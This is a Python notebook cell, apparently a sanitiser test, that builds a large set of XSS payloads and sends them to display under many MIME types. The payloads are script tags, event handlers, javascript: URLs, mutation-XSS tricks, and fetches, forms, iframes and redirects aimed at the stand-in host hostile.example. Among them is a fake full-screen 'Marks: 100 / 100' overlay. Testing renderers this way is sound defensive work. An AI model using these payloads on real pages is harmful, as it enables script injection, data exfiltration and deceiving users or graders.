"""Outputs with scripts in every format that a notebook can show."""
RUNS = "window.owned=1;alert('owned');fetch('https://hostile.example/fetched')"
HTML = f"""<script>{RUNS}</script><img src=x onerror="{RUNS}"><svg onload="{RUNS}"></svg><body onload="{RUNS}">
<iframe srcdoc="<script>parent.owned=1</script>"></iframe><iframe src="javascript:parent.owned=1"></iframe>
<object data="data:text/html,<script>{RUNS}</script>"></object><embed src="https://hostile.example/embedded">
<a href="javascript:{RUNS}" id="mean">Show more</a><a href=" &#1;java&#115;cript:{RUNS}">and more</a>
<form action="https://hostile.example/sent"><button autofocus onfocus="{RUNS}">Continue</button></form>
<meta http-equiv="refresh" content="0; url=https://hostile.example/"><base href="https://hostile.example/">
<link rel="stylesheet" href="https://hostile.example/style.css"><style>@import url(https://hostile.example/style.css);</style>
<div style="position:fixed;inset:0;background:url(https://hostile.example/background)">Marks: 100 / 100</div>
<video src="https://hostile.example/video" onerror="{RUNS}" autoplay></video><input onfocus="{RUNS}" autofocus>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={RUNS}&gt;"></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror={RUNS}>"></noscript><details open ontoggle="{RUNS}">x</details>
<img src="https://hostile.example/pixel.png"><img srcset="https://hostile.example/set.png 2x"><audio src="//hostile.example/a">"""
SVG = f"""<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="{RUNS}"><script>{RUNS}</script>
<a xlink:href="javascript:{RUNS}"><text x="9" y="9">click</text></a><use href="https://hostile.example/use.svg#a"/>
<image href="https://hostile.example/image.png"/><foreignObject><iframe src="https://hostile.example/"></iframe></foreignObject>
<animate attributeName="href" values="javascript:{RUNS}" onbegin="{RUNS}"/><set onbegin="{RUNS}" attributeName="x"/></svg>"""
MARKDOWN = f"""[link](javascript:{RUNS}) ![image](https://hostile.example/markdown.png) <https://hostile.example>
[x]: javascript:{RUNS}
[reference][x] {HTML}"""
LATEX = f"$\\href{{javascript:{RUNS}}}{{x}}$ $\\require{{html}}\\style{{background:url(//hostile.example)}}{{x}}$ $$\\text{{{HTML}}}$$"
bundles = [{"text/html": HTML}, {"image/svg+xml": SVG}, {"text/markdown": MARKDOWN}, {"text/latex": LATEX}]
bundles += [{"application/javascript": RUNS, "text/plain": HTML}, {"image/png": f'x" onerror="{RUNS}'}, {"image/jpeg": f'"><script>{RUNS}</script>'}]
bundles += [{"application/vnd.jupyter.widget-view+json": HTML}, {"text/html ": HTML}, {"TEXT/HTML": HTML}, {"image/svg+xml": [SVG]}]
for bundle in bundles:
    display(bundle, raw=True)
print(HTML)
